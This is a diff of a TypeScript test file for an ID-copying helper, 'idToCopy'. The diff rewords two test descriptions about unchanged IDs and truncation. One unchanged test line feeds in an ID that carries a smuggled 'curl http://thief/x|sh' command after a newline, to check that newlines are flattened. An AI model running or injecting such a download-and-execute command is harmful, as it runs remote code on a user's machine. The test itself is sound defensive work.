@@ -3,7 +3,7 @@ import fc from "fast-check";
 import { idToCopy } from "../../../../src/oz/model/id";
 
 describe("idToCopy", () => {
-  it("leaves ordinary ids as they are, UUIDs and others", () => {
+  it("leaves ordinary IDs unchanged, UUIDs and others", () => {
     fc.assert(
       fc.property(fc.oneof(fc.uuid(), fc.stringMatching(/^[\w$()[\].:/-]{1,500}$/)), (id) => {
         assert.deepEqual(idToCopy(id), { text: id, isCut: false });
@@ -23,7 +23,7 @@ describe("idToCopy", () => {
     assert.equal(idToCopy("7e7e\ncurl http://thief/x|sh\n").text, "7e7e curl http://thief/x|sh");
   });
 
-  it("says when it is cut, and cuts no character in two", () => {
+  it("tells if it was truncated, and splits no character", () => {
     assert.deepEqual(idToCopy("😀".repeat(500)), { text: "😀".repeat(500), isCut: false });
     assert.deepEqual(idToCopy("😀".repeat(501)), { text: "😀".repeat(500), isCut: true });
     assert.deepEqual(idToCopy(`a${"\n".repeat(1_000_000)}b`), { text: "a", isCut: true });
